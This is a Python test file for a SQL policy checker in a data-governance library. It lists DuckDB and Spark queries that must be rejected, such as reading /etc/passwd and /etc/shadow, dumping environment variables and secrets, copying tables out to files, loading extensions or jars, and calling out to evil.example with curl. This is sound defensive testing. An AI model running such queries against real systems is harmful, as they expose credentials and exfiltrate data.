"""The analyst's SQL reaches for files, settings, the environment or the network instead of the inputs."""

from __future__ import annotations

from datetime import UTC, datetime

import pytest

from strongroom.policy import fuse, parse_policy_toml, policy_template
from strongroom.policy.query import QueryError, check_sql
from strongroom.statements import SigningKey

OWNER = SigningKey.generate(name="bank")
FUSED = fuse(
    [
        parse_policy_toml(
            policy_template(
                dataset="accounts",
                owner=OWNER.party,
                analysts=[],
                purposes=[],
                expires=datetime(2030, 1, 1, tzinfo=UTC),
                minimum_group=1,
            )
        )
    ]
)
TABLES = {"accounts": ["id", "balance"]}
DUCKDB = """
    SELECT * FROM read_csv('/etc/passwd')
    SELECT * FROM read_text('/proc/self/environ')
    SELECT content FROM read_blob('/etc/shadow')
    SELECT * FROM '/data/other.parquet'
    SELECT * FROM "/data/other.parquet"
    SELECT * FROM read_parquet(['https://evil.example/x.parquet'])
    SELECT * FROM glob('/**')
    SELECT getenv('HOME')
    SELECT current_setting('secret_directory')
    SELECT * FROM duckdb_secrets()
    SELECT * FROM duckdb_settings()
    SELECT * FROM pragma_database_list
    SELECT * FROM query('SELECT 1')
    SELECT * FROM query_table('accounts')
    SELECT * FROM sniff_csv('/etc/passwd')
    SELECT * FROM sqlite_scan('/x.db', 'y')
    SELECT id FROM accounts WHERE id IN (SELECT 1 FROM read_csv('/etc/passwd'))
    SELECT (SELECT content FROM read_text('/etc/passwd')) FROM accounts
    SELECT id FROM accounts ORDER BY getenv('HOME')
    SELECT nextval('s')
    SELECT write_log('x')
    WITH x AS (SELECT * FROM read_csv('/etc/passwd')) SELECT * FROM x
    COPY (SELECT * FROM accounts) TO '/tmp/out.csv'
    EXPORT DATABASE '/tmp/out'
    INSTALL httpfs
    LOAD httpfs
    CREATE SECRET s (TYPE s3)
    CREATE MACRO f(x) AS x
    CALL pragma_version()
    EXPLAIN ANALYZE SELECT * FROM read_csv('/etc/passwd')
    SELECT accounts.id FROM accounts; COPY accounts TO '/tmp/out.csv'
"""
SPARK = """
    SELECT * FROM csv.`/etc/passwd`
    SELECT * FROM text.`file:/etc/passwd`
    SELECT * FROM delta.`s3a://evil/x`
    SELECT * FROM range(10)
    SELECT reflect('java.lang.System', 'getenv', 'HOME')
    SELECT java_method('java.lang.System', 'exit', 1)
    SELECT input_file_name() FROM accounts
    SELECT from_json('{}', 'a INT')
    SELECT TRANSFORM (id) USING 'curl evil.example' AS (x) FROM accounts
    SET spark.sql.extensions
    ADD JAR '/tmp/x.jar'
    CREATE TEMPORARY VIEW x USING csv OPTIONS (path '/etc/passwd')
    INSERT OVERWRITE DIRECTORY '/tmp/out' SELECT * FROM accounts
    SELECT /*+ BROADCAST(accounts) */ id FROM accounts
"""


def _lines(text: str) -> list[str]:
    return [line.strip() for line in text.strip().splitlines()]


@pytest.mark.parametrize("text", _lines(DUCKDB))
def test_duckdb_never_sees_it(text: str) -> None:
    with pytest.raises(QueryError):
        check_sql(text, FUSED, TABLES)


@pytest.mark.parametrize("text", _lines(SPARK))
def test_spark_never_sees_it(text: str) -> None:
    with pytest.raises(QueryError):
        check_sql(text, FUSED, TABLES, dialect="spark")
